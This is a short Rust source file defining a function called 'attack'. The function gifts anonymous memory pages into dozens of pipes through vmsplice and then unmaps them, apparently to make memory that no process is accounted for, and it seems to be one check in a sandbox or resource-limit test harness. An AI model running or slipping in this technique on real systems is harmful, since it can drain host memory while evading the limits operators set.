use std::io;

use crate::memory::{LENGTH, PRIVATE_ANONYMOUS, READ_AND_WRITE, beyond, mapped, unmapped};

unsafe extern "C" {
    fn pipe2(ends: *mut i32, flags: i32) -> i32;
    fn vmsplice(pipe: i32, pieces: *const [usize; 2], count: usize, flags: u32) -> isize;
    fn close(file: i32) -> i32;
}

const NON_BLOCKING: i32 = 0o4000;
/// What a pipe takes, whoever fills it.
const PIECE: usize = 64 << 10;
const PIPES: usize = 48;
/// They are the pipe's from now on.
const GIVEN: u32 = 8;

/// The pages are the process's no more, and nobody's else.
pub fn attack() -> io::Result<Option<String>> {
    beyond(|| {
        let mut pipes = Vec::new();
        let mut given = 0;
        for _ in 0..PIPES {
            let mut ends = [0; 2];
            if unsafe { pipe2(ends.as_mut_ptr(), NON_BLOCKING) } < 0 {
                break;
            }
            pipes.extend(ends);
            let Ok(at) = mapped(LENGTH, READ_AND_WRITE, PRIVATE_ANONYMOUS, -1) else { break };
            unsafe { at.write_bytes(7, PIECE) };
            given += unsafe { vmsplice(ends[1], &[at as usize, PIECE], 1, GIVEN) }.max(0) as usize;
            unmapped(at, LENGTH);
        }
        pipes.iter().for_each(|end| {
            unsafe { close(*end) };
        });
        Ok(given == PIPES * PIECE)
    })
}
